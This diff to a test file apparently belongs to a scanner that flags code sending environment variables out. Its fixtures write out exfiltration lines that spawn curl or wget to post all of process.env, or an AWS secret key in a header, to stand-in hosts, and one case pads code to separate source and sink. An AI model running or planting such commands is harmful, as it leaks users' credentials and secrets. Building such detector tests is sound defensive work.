@@ -7,6 +7,13 @@ const hook = (command: string): { 'package.json': object } => ({ 'package.json':
 examine(sendsWithACommand, {
   speaks: [
     {
+      when: 'the environment is an argument of what sends it',
+      files: run(
+        `const seen = { ...process.env }; const pick = () => seen; require('child_process').spawn('curl', ['-d', JSON.stringify(pick()), 'https://files.invalid/a'])`,
+      ),
+      weight: 'proof',
+    },
+    {
       when: 'the environment is written into a command line',
       files: {
         'index.js': `require('child_process').execSync('curl -X POST -d "' + Buffer.from(JSON.stringify(process.env)).toString('base64') + '" https://collect.invalid');`,
@@ -40,6 +47,12 @@ examine(sendsWithACommand, {
     { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
   ],
   silent: [
+    {
+      when: 'in a large bundle the environment and a program that is started are far apart',
+      files: run(
+        `const seen = { ...process.env }; const pick = () => seen; ${'specimen(0); '.repeat(4_500)} require('child_process').spawn('curl', [pick()['SPECIMEN_' + kind], 'https://files.invalid/a'])`,
+      ),
+    },
     {
       when: 'a script is written that fetches something',
       files: run(
